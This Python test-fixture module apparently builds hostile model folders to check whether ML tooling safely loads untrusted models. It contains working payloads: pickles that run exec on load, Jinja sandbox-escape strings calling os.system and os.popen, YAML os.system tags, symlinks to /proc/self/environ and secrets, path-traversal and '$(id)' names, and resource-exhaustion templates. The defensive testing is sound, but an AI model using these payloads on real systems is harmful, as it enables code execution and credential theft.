"""Model folders whose files are code, devices, depth and claims."""

from __future__ import annotations

import json
import os
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any

from hostile_repositories import Built, Canary, Trigger, hostile, link, nested, pipe, write, write_json

CHAT = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"


class Payload:
    """Unpickled, it executes a line of Python."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


def write_pickle(path: Path, canary: Canary, what: str) -> Trigger:
    """A pickle with a payload, and what makes it fire."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(Payload(canary.python(what))))
    return Trigger(what, (sys.executable, "-c", LOAD, str(path)), path.parent)


def write_archive(path: Path, canary: Canary, what: str) -> None:
    """The same as torch writes it: an archive with a pickle in it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Payload(canary.python(what))))
        archive.writestr("archive/version", "3\n")


def write_safetensors(path: Path, header: bytes, size: int | None = None) -> None:
    """A file of weights with this header; ``size``: how long it claims to be."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes((len(header) if size is None else size).to_bytes(8, "little") + header)


def add_model(folder: Path, template: str = CHAT, **config: Any) -> Path:
    """The least that makes a model folder with a chat template."""
    write_json(
        folder / "config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"], **config}
    )
    tokens = {"eos_token": "</s>", "tokenizer_class": "PreTrainedTokenizerFast"}
    write_json(folder / "tokenizer_config.json", {**tokens, "chat_template": template})
    return folder


@hostile("a model whose classes are code of its own")
def model_with_code(folder: Path, canary: Canary) -> Built:
    modules = ("configuration_x", "modeling_x", "tokenization_x", "processing_x")
    auto_map = {
        "AutoConfig": "configuration_x.XConfig",
        "AutoModel": "modeling_x.XModel",
        "AutoModelForCausalLM": "modeling_x.XModel",
        "AutoTokenizer": ["tokenization_x.XTokenizer", "tokenization_x.XTokenizerFast"],
        "AutoProcessor": "processing_x.XProcessor",
    }
    model = add_model(folder / "model", model_type="x", auto_map=auto_map, trust_remote_code=True)
    tokens = {"tokenizer_class": "XTokenizer", "auto_map": auto_map, "chat_template": CHAT}
    write_json(model / "tokenizer_config.json", {**tokens, "trust_remote_code": True})
    write_json(model / "processor_config.json", {"processor_class": "XProcessor", "auto_map": auto_map})
    for name in (*modules, "__init__", "sitecustomize", "tokenizers", "jinja2"):
        write(model / f"{name}.py", f"{canary.python(name)}\n")
    write(folder / "train.py", "from transformers import AutoModel\nAutoModel.from_pretrained('model')\n")
    return Built(
        tuple(
            Trigger(
                name, (sys.executable, "-c", f"import sys; sys.path.insert(0, '.'); import {name}"), model
            )
            for name in modules
        )
    )


@hostile("pickles where weights, tokenizers and training arguments are expected")
def model_of_pickles(folder: Path, canary: Canary) -> Built:
    model = add_model(folder / "model")
    names = (
        "pytorch_model.bin",
        "model.safetensors",
        "adapter_model.bin",
        "adapter_model.safetensors",
        "training_args.bin",
        "optimizer.pt",
        "scheduler.pt",
        "rng_state.pth",
        "vocab.pkl",
        "tokenizer.model",
        "tokenizer.json",
        "spiece.model",
        "vocab.json",
    )
    triggers = [write_pickle(model / name, canary, name) for name in names]
    archives = ("pytorch_model.bin", "training_args.bin", "optimizer.pt")
    for name in archives:
        write_archive(folder / "archives" / name, canary, f"archive-{name}")
    add_model(folder / "archives")
    checkpoint = folder / "out" / "checkpoint-3"
    for name in names:
        write_pickle(checkpoint / name, canary, name)
    write_json(
        checkpoint / "trainer_state.json", {"global_step": 3, "log_history": [{"step": 1, "loss": 1.0}]}
    )
    write(folder / "train.py", "from transformers import AutoModel\nAutoModel.from_pretrained('model')\n")
    return Built(tuple(triggers))


@hostile("headers of weight files that claim sizes, depth and shapes that nothing has")
def model_with_crafted_weights(folder: Path, canary: Canary) -> Built:
    tensor = {"dtype": "F32", "shape": [2**62, 2**62], "data_offsets": [0, 2**63]}
    headers: dict[str, tuple[bytes, int | None]] = {
        "claims-2-63": (b"{}", 2**63),
        "claims-all": (b"{}", 2**64 - 1),
        "claims-a-gigabyte": (b"{", 2**30),
        "depth": (nested(100_000).encode(), None),
        "shape": (json.dumps({"a": tensor, "b": {**tensor, "shape": [-1]}}).encode(), None),
        "shapes": (json.dumps({"a": {**tensor, "shape": [1] * 200_000}}).encode(), None),
        "types": (
            b'{"a": 1, "b": {"dtype": [], "shape": {}, "data_offsets": "x"}, "__metadata__": []}',
            None,
        ),
        "number": (
            b'{"a": {"dtype": "F32", "shape": [1' + b"0" * 5000 + b'], "data_offsets": [0, 1]}}',
            None,
        ),
        "empty": (b"", None),
    }
    for name, (header, size) in headers.items():
        model = add_model(folder / name)
        write_safetensors(model / "model.safetensors", header, size)
        write(
            folder / f"{name}.py",
            f"from transformers import AutoModel\nAutoModel.from_pretrained('{name}')\n",
        )
    index = {
        "metadata": {"total_size": 10**400},
        "weight_map": {"a": "../../canary/secret", "b": "/dev/zero"},
    }
    write_json(add_model(folder / "index") / "model.safetensors.index.json", index)
    write(folder / "index.py", "from transformers import AutoModel\nAutoModel.from_pretrained('index')\n")
    return Built()


@hostile("tokenizers and configurations that are large, deep, or of wrong types")
def model_with_crafted_tokenizers(folder: Path, canary: Canary) -> Built:
    deep = add_model(folder / "deep")
    write(deep / "tokenizer.json", nested(1_000_000))
    write(deep / "tokenizer_config.json", '{"chat_template": ' + nested(100_000) + "}")
    write(deep / "config.json", nested(1_000_000))
    large = add_model(folder / "large")
    vocabulary = ", ".join(f'"token {number}": {number}' for number in range(300_000))
    write(large / "tokenizer.json", '{"model": {"type": "BPE", "merges": [], "vocab": {' + vocabulary + "}}}")
    names = [{"name": f"name {number}", "template": CHAT} for number in range(20_000)]
    write_json(large / "tokenizer_config.json", {"chat_template": names})
    types = add_model(
        folder / "types", vocab_size=-(10**400), hidden_size="x", num_hidden_layers=[], torch_dtype={}
    )
    write_json(
        types / "tokenizer_config.json", {"chat_template": {"a": [1]}, "tokenizer_class": [], "eos_token": 1}
    )
    write_json(types / "special_tokens_map.json", [1, 2])
    write_json(types / "generation_config.json", 1)
    write_json(
        types / "adapter_config.json", {"peft_type": [], "base_model_name_or_path": "/dev/zero", "r": 10**400}
    )
    paths = add_model(folder / "paths")
    tokens = {"tokenizer_class": "../../x", "chat_template": [{"name": "../../../x", "template": CHAT}]}
    write_json(
        paths / "tokenizer_config.json", {**tokens, "tokenizer_file": "/dev/zero", "vocab_file": "/dev/zero"}
    )
    write(paths / "additional_chat_templates" / "..%2f..%2fx.jinja", CHAT)
    for name in ("deep", "types", "paths"):
        write(
            folder / f"{name}.py",
            f"from transformers import AutoModel\nAutoModel.from_pretrained('{name}')\n",
        )
    return Built()


ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('COMMAND').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('COMMAND') }}",
    "{{ lipsum.__globals__['os'].system('COMMAND') }}",
    "{{ namespace.__init__.__globals__ }}{{ ''|attr('__class__')|attr('mro') }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "{% set m = '%s'|format %}{{ messages.__class__.__base__.__subclasses__() }}",
    "{{ raise_exception.__globals__ }}{{ strftime_now.__globals__ }}{{ tojson.__globals__ }}",
    "{% include '/etc/passwd' %}{% import 'os' as os %}{% extends '/etc/passwd' %}",
)


@hostile("chat templates try to get out of the sandbox")
def templates_that_escape(folder: Path, canary: Canary) -> Built:
    command = canary.shell("template").replace("'", "\\'")
    for number, escape in enumerate(ESCAPES):
        template = escape.replace("COMMAND", command)
        write(folder / f"escape-{number}.jinja", template)
        write(add_model(folder / f"model-{number}", template) / "chat_template.jinja", template)
    code = "import jinja2, sys; jinja2.Template(open(sys.argv[1]).read()).render()"
    return Built((Trigger("template", (sys.executable, "-c", code, str(folder / "escape-1.jinja")), folder),))


@hostile("chat templates work without end, in Python and inside of C")
def templates_without_end(folder: Path, canary: Canary) -> Built:
    templates = {
        "power": "{{ (messages|length) ** (9**9) }}",
        "constant": "{{ 9 ** (9 ** 9) }}",
        "loop": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "memory": "{{ 'a' * 10**10 }}",
        "pattern": "{{ 'a' * 40 + 'b' | replace('a', 'aa' * 10**6) }}",
        "answer": "{{ 'é\\n' * 30000000 }}",
        "error": "{{ raise_exception('x' * 50000000) }}",
        "deep": "{% if 1 %}" * 5000 + "{% endif %}" * 5000,
    }
    for name, template in templates.items():
        write(folder / f"{name}.jinja", template)
    return Built()


@hostile("files of a model lead to devices, pipes and out of the repository", alone=True)
def model_of_devices(folder: Path, canary: Canary) -> Built:
    names = (
        "config.json",
        "tokenizer_config.json",
        "tokenizer.json",
        "chat_template.jinja",
        "generation_config.json",
        "special_tokens_map.json",
        "model.safetensors",
        "model.safetensors.index.json",
        "adapter_config.json",
        "processor_config.json",
    )
    targets: dict[str, str | Path] = {
        "zero": "/dev/zero",
        "stdin": "/dev/stdin",
        "environ": "/proc/self/environ",
        "secret": canary.secret,
    }
    for label, target in targets.items():
        for name in names:
            model = add_model(folder / f"{label}-{name}")
            (model / name).unlink(missing_ok=True)
            link(model / name, target)
        for name in names:
            link(folder / label / name, target)
    for name in names:
        model = add_model(folder / f"pipe-{name}")
        (model / name).unlink(missing_ok=True)
        pipe(model / name)
    link(add_model(folder / "templates") / "additional_chat_templates" / "secret.jinja", canary.secret)
    link(folder / "whole", canary.folder)
    add_model(canary.folder / "model-outside", template=canary.secret.read_text(encoding="utf-8"))
    link(folder / "outside", canary.folder / "model-outside")
    return Built()


@hostile("a model card with markup, links to commands and front matter that makes objects")
def model_cards(folder: Path, canary: Canary) -> Built:
    tag = f'!!python/object/apply:os.system ["{canary.shell("card")}"]'
    links = "[x](command:workbench.action.quit) <a href='vscode://x'>x</a> <script>alert(1)</script> ![](file:///etc)"
    model = add_model(folder / "model")
    card = f"---\nlicense: {tag}\nbase_model: {tag}\nmodel_index: {tag}\n---\n{links}\n"
    write(model / "README.md", card)
    write(folder / "README.md", card)
    names = ["org/model", "../../etc/passwd", "-x/-y", "org/$(id)", "a" * 5000, "org/\u202ex"]
    uses = "".join(f"AutoModel.from_pretrained({name!r}, revision={name!r})\n" for name in names)
    write(folder / "names.py", "from transformers import AutoModel\n" + uses)
    write(folder / "names.yaml", "".join(f"model: {name!r}\n" for name in names))
    write_json(folder / "names.json", {"base_model_name_or_path": names[0], "models": names})
    front = write(folder / "front.yaml", f"license: {tag}\n")
    load = "import yaml, sys; yaml.unsafe_load(open(sys.argv[1]))"
    return Built((Trigger("card", (sys.executable, "-c", load, str(front)), folder),))


@hostile("a cache of models that came with the repository")
def cache_of_its_own(folder: Path, canary: Canary) -> Built:
    hub = folder / "cache" / "hub"
    repository = hub / "models--org--evil"
    commit = "0123456789abcdef0123456789abcdef01234567"
    write(repository / "refs" / "main", commit)
    write(repository / "refs" / "up", "../../../../canary")
    snapshot = repository / "snapshots" / commit
    link(snapshot / "config.json", canary.secret)
    link(snapshot / "tokenizer_config.json", "/dev/zero")
    pipe(snapshot / "chat_template.jinja")
    write(snapshot / "modeling_x.py", f"{canary.python('cached')}\n")
    link(repository / "blobs", canary.folder)
    link(hub / "models--loop--loop", ".")
    os.mkfifo(hub / "models--pipe--pipe")
    link(hub / "datasets--dev--dev", "/dev")
    trigger = Trigger("cached", (sys.executable, str(snapshot / "modeling_x.py")), folder)
    return Built((trigger,), {"HF_HUB_CACHE": str(hub), "HF_HOME": str(folder / "cache")})
